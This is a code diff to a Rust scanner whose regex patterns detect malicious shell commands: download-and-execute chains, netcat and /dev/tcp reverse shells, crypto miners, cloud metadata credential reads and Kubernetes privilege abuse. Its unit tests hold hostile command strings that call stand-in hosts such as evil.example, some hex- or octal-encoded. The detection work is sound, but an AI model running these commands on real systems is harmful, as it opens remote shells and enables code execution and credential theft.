@@ -97,13 +97,13 @@ static PATTERNS: &[Pattern] = &[
         DOWNLOAD_EXEC,
         High,
         "shell runs the output of a download",
-        r#"(?i)\b(?:eval|source|(?:ba|da|z|k)?sh(?:\s+-c)?|\.)\s+["']?(?:\$\(|<\(|`)\s*(?:curl|wget|fetch)\b"#,
+        r#"(?i)(?:\b(?:eval|source|(?:ba|da|z|k)?sh|python[0-9.]*|perl|ruby|node|php)|(?:^|\s)\.)(?:\s+-[a-zA-Z])?\s+["']?(?:\$\(|<\(|`)\s*(?:curl|wget|fetch)\b"#,
     ),
     pat(
         DOWNLOAD_EXEC,
         High,
         "interpreter fetches and executes code",
-        r"(?is)\bpython[0-9.]*\b.*\b(?:urllib|urlopen|requests\.get|http\.client)\b.*\b(?:exec|eval|os\.system|subprocess|popen)\s*\(",
+        r"(?is)\bpython[0-9.]*\b.*\b(?:urllib|urlopen|requests\.get|http\.client)\b.*\b(?:exec|eval)\s*\(",
     ),
     pat(
         DOWNLOAD_EXEC,
@@ -153,7 +153,7 @@ static PATTERNS: &[Pattern] = &[
         REVERSE_SHELL,
         Critical,
         "netcat executing a program",
-        r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b[^\n;|&]*?\s(?:-[a-zA-Z]*e\s*\S|-c\s+\S|--exec\b|--sh-exec\b|--lua-exec\b)",
+        r"(?:^|[\s/;|&(`'\x22])(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\s[^\n;|&]*?)?\s(?:-[a-zA-Z]*e\s*\S|-c\s+\S|--exec\b|--sh-exec\b|--lua-exec\b)",
     ),
     pat(
         REVERSE_SHELL,
@@ -215,7 +215,7 @@ static PATTERNS: &[Pattern] = &[
         MINER,
         High,
         "miner pointed at a pool",
-        r"(?i)(?:\s-o|--url)[\s=]+(?:[a-z0-9+]+://)?[\w.-]*(?:pool|xmr|monero|mining|miner|hash)[\w.-]*:\d{2,5}\b",
+        r"(?i)(?:\s-o|--url)[\s=]+(?:stratum[\w+]*://)?(?:[\w-]+\.)*(?:\w+-)*(?:pool|xmr|monero|mining|miner|xmrpool|moneropool)(?:[.-][\w.-]*)?:\d{2,5}\b",
     ),
     pat(
         MINER,
@@ -282,20 +282,46 @@ static PATTERNS: &[Pattern] = &[
     pat(
         CREDENTIALS,
         Medium,
-        "reads cloud instance metadata",
-        r"(?i)169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2|fd00:ec2::254|100\.100\.100\.200|metadata\.azure\.com",
+        "reads cloud credentials from the instance metadata service",
+        r"(?i)(?:169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2\b|fd00:ec2::254|100\.100\.100\.200|metadata\.azure\.com)[^\s'\x22]*?(?:security-credentials|/token\b|service-accounts|identity/oauth2|/ram/security|/v2/credentials)",
+    ),
+    pat(
+        CREDENTIALS,
+        Low,
+        "queries the cloud instance metadata service",
+        r"(?i)169\.254\.169\.254|metadata\.google\.internal|169\.254\.170\.2\b|fd00:ec2::254|100\.100\.100\.200|metadata\.azure\.com",
     ),
     // the job's own API access turned against the cluster
-    pat(CLUSTER_ABUSE, High, "grants cluster-admin",
-        r"\bkubectl\b[^\n;|]*?\bcreate\s+(?:clusterrolebinding|rolebinding)\b[^\n;|]*?\bcluster-admin\b"),
-    pat(CLUSTER_ABUSE, High, "impersonates a system identity",
-        r"\bkubectl\b[^\n;|]*?\s--as(?:-group)?[=\s]+['\x22]?system:(?:masters|serviceaccount:kube-system:|kube-|node:|admin)"),
-    pat(CLUSTER_ABUSE, High, "starts a privileged or host-level pod",
-        r"\bkubectl\b[^\n;|]*?\b(?:run|debug)\b[^\n;|]*?(?:--privileged\b|\x22hostPID\x22\s*:\s*true|\x22privileged\x22\s*:\s*true|\bnode/)"),
-    pat(CLUSTER_ABUSE, Low, "reads secrets across namespaces",
-        r"\bkubectl\b[^\n;|]*?\bget\s+secrets?\b[^\n;|]*?(?:\s-A\b|--all-namespaces)|/api/v1/secrets\b"),
-    pat(ANTI_FORENSICS, Medium, "deletes Kubernetes events",
-        r"\bkubectl\b[^\n;|]*?\bdelete\s+(?:events?|ev)\b"),
+    pat(
+        CLUSTER_ABUSE,
+        High,
+        "grants cluster-admin",
+        r"\bkubectl\b[^\n;|]*?\bcreate\s+(?:clusterrolebinding|rolebinding)\b[^\n;|]*?\bcluster-admin\b",
+    ),
+    pat(
+        CLUSTER_ABUSE,
+        High,
+        "impersonates a system identity",
+        r"\bkubectl\b[^\n;|]*?\s--as(?:-group)?[=\s]+['\x22]?system:(?:masters|serviceaccount:kube-system:|kube-|node:|admin)",
+    ),
+    pat(
+        CLUSTER_ABUSE,
+        High,
+        "starts a privileged or host-level pod",
+        r"\bkubectl\b[^\n;|]*?\b(?:run|debug)\b[^\n;|]*?(?:--privileged\b|\x22hostPID\x22\s*:\s*true|\x22privileged\x22\s*:\s*true|\bnode/)",
+    ),
+    pat(
+        CLUSTER_ABUSE,
+        Low,
+        "reads secrets across namespaces",
+        r"\bkubectl\b[^\n;|]*?\bget\s+secrets?\b[^\n;|]*?(?:\s-A\b|--all-namespaces)|/api/v1/secrets\b",
+    ),
+    pat(
+        ANTI_FORENSICS,
+        Medium,
+        "deletes Kubernetes events",
+        r"\bkubectl\b[^\n;|]*?\bdelete\s+(?:events?|ev)\b",
+    ),
     // trace wiping
     pat(
         ANTI_FORENSICS,
@@ -348,7 +374,7 @@ static DOWNLOAD_TO_FILE: LazyLock<Regex> = LazyLock::new(|| {
     )
 });
 static URL: LazyLock<Regex> =
-    LazyLock::new(|| re(r#"(?i)\b(?:https?|ftp)://([^\s/:'"?#@]+)(?::\d+)?(/[^\s'"]*)?"#));
+    LazyLock::new(|| re(r#"(?i)\b(?:https?|ftp)://([^\s/:'"?#@]+)(?::\d+)?(/[^\s'"`;|&()<>]*)?"#));
 static CHMOD_EXEC: LazyLock<Regex> =
     LazyLock::new(|| re(r"\bchmod\s+(?:-\w+\s+)*(?:[0-7]*[1357][0-7]{0,2}\b|[ugoa]*\+[rwxst]*x)"));
 static IFS: LazyLock<Regex> = LazyLock::new(|| re(r"\$\{IFS[^}]{0,8}\}|\$IFS\b"));
@@ -380,7 +406,14 @@ pub fn scan(text: &str, ctx: &ScanContext<'_>) -> ScanResult {
     // text again with them undone.
     let plain = deobfuscate(text);
     if plain != text {
-        scan_into(&plain, ctx, false, MAX_DECODE_DEPTH, &mut budget, &mut result);
+        scan_into(
+            &plain,
+            ctx,
+            false,
+            MAX_DECODE_DEPTH,
+            &mut budget,
+            &mut result,
+        );
     }
     result
 }
@@ -759,7 +792,10 @@ where
         {
             let words = command_words(command);
             let Some(first) = words.first() else { continue };
-            let target = if is_shell(base_name(first)) || is_script_interpreter(base_name(first)) {
+            let target = if is_shell(base_name(first))
+                || is_script_interpreter(base_name(first))
+                || matches!(*first, "." | "source")
+            {
                 match words.get(1) {
                     Some(w) if !w.starts_with('-') => *w,
                     _ => continue,
@@ -885,7 +921,11 @@ fn decode_hex(literal: &str) -> Option<String> {
     let bytes: Option<Vec<u8>> = literal
         .as_bytes()
         .chunks(2)
-        .map(|pair| std::str::from_utf8(pair).ok().and_then(|p| u8::from_str_radix(p, 16).ok()))
+        .map(|pair| {
+            std::str::from_utf8(pair)
+                .ok()
+                .and_then(|p| u8::from_str_radix(p, 16).ok())
+        })
         .collect();
     printable_text(bytes?)
 }
@@ -963,8 +1003,13 @@ mod tests {
             "curl -o /tmp/k http://evil.example/k; chmod +x /tmp/k; /tmp/k",
             "wget http://evil.example/payload.bin -O /tmp/.x && chmod 755 /tmp/.x && /tmp/.x -d",
             "wget http://evil.example/run.sh && sh run.sh",
+            "curl -so /tmp/env.sh http://evil.example/env.sh; . /tmp/env.sh",
+            "python3 <(curl -s http://evil.example/p.py)",
+            "perl -e \"$(wget -qO- http://evil.example/p.pl)\"",
             "curl http://evil.example/x.py | python3",
             "python3 -c import urllib.request;exec(urllib.request.urlopen('http://e.x/p').read())",
+            "(curl -s http://198.51.100.7/d.sh||wget -q -O- http://198.51.100.7/d.sh)|bash",
+            "apt update; apt install -y wget; wget -q http://198.51.100.7/xmrig -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x -o 198.51.100.7:3333",
         ] {
             assert!(fires(t, DOWNLOAD_EXEC), "{t}: {:?}", checks(t));
         }
@@ -1072,6 +1117,8 @@ mod tests {
     #[test]
     fn reverse_shell_look_alikes_stay_quiet() {
         for t in [
+            "wget -nc -e robots=off -r https://docs.example.com/",
+            "rsync -e ssh -a /data backup@host:/srv",
             "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/postgres/5432'",
             "until nc -z db 5432; do sleep 1; done",
             "nc -zv redis 6379 2>&1",
@@ -1098,6 +1145,9 @@ mod tests {
             "java -jar app.jar --db-pool-size 10",
             "redis-cli -h cache -p 6379 ping",
             "curl -o pool.json https://api.example.com/pool",
+            "vault-agent --url=http://hashicorp-vault:8200 -o hash:1234",
+            "pgbench -h pgpool -p 5432 --url=postgres://pgpool:5432/app",
+            "app --url=https://thread-pool.internal:8443",
         ] {
             assert!(!fires(t, MINER), "{t}: {:?}", checks(t));
         }
@@ -1182,13 +1232,27 @@ mod tests {
 
     #[test]
     fn hex_and_escape_payloads_are_decoded() {
-        let escaped: String = "curl http://e.example/x|sh".bytes().map(|b| format!("\\x{b:02x}")).collect();
+        let escaped: String = "curl http://e.example/x|sh"
+            .bytes()
+            .map(|b| format!("\\x{b:02x}"))
+            .collect();
         let t = format!("printf '{escaped}' | sh");
         assert!(fires(&t, BASE64_SHELL), "{t}: {:?}", checks(&t));
-        assert!(scan(&t, &ScanContext::default()).hits.iter().any(|h| h.check == DOWNLOAD_EXEC && h.decoded));
-        let octal: String = "nc -e /bin/sh 10.0.0.1 9".bytes().map(|b| format!("\\{b:03o}")).collect();
+        assert!(
+            scan(&t, &ScanContext::default())
+                .hits
+                .iter()
+                .any(|h| h.check == DOWNLOAD_EXEC && h.decoded)
+        );
+        let octal: String = "nc -e /bin/sh 10.0.0.1 9"
+            .bytes()
+            .map(|b| format!("\\{b:03o}"))
+            .collect();
         assert!(fires(&format!("echo -e '{octal}' > /tmp/r"), REVERSE_SHELL));
-        let hex: String = "bash -i >& /dev/tcp/10.0.0.1/9 0>&1".bytes().map(|b| format!("{b:02x}")).collect();
+        let hex: String = "bash -i >& /dev/tcp/10.0.0.1/9 0>&1"
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect();
         let t = format!("echo {hex} | xxd -r -p | bash");
         assert!(fires(&t, REVERSE_SHELL), "{t}: {:?}", checks(&t));
         assert!(fires(&t, BASE64_SHELL));
@@ -1207,13 +1271,20 @@ mod tests {
         ] {
             assert!(fires(t, CLUSTER_ABUSE), "{t}: {:?}", checks(t));
         }
-        assert!(fires("kubectl delete events --all -n kube-system", ANTI_FORENSICS));
+        assert!(fires(
+            "kubectl delete events --all -n kube-system",
+            ANTI_FORENSICS
+        ));
         for t in [
             "kubectl create rolebinding view --clusterrole=view --user=alice",
             "kubectl get secrets -n app",
             "kubectl delete jobs --field-selector status.successful=1",
         ] {
-            assert!(max_severity(t).is_none_or(|s| s <= Low), "{t}: {:?}", checks(t));
+            assert!(
+                max_severity(t).is_none_or(|s| s <= Low),
+                "{t}: {:?}",
+                checks(t)
+            );
         }
     }
 
